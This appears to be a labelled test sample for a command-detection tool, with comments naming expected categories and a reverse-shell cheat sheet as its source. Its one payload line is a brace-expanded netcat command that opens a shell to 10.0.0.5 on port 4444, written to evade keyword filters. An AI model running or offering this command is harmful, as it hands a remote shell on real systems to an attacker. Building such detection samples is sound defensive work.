# expect: shell-spawn,raw-socket
# source: PayloadsAllTheThings: reverse shell cheat sheet
# technique: nc -e /bin/sh assembled by a brace list
{nc,-e,/bin/sh,10.0.0.5,4444}
